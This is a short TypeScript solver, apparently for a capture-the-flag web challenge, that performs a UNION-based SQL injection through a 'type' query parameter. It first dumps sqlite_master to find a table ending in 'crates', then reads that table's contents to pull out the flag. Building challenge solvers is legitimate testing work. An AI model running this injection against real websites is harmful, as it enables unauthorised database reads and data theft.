import { flagIn, type Solve, webAddress } from '../../solver.ts'

/** Closes the quote and asks for more: first which tables there are, then for the crates. */
export const solve: Solve = async context => {
  const inject = async (columns: string, table: string) => {
    const type = `x' UNION SELECT ${columns} FROM ${table} -- `
    const response = await fetch(`${webAddress(context)}/?${new URLSearchParams({ type })}`)
    return response.text()
  }
  const tables = await inject('name, sql, type', 'sqlite_master')
  const crates = /<td>(\w*crates)<\/td>/.exec(tables)?.[1]
  if (!crates) throw new Error('no table of crates')
  return [flagIn(await inject('label, contents, 1', crates), context)]
}
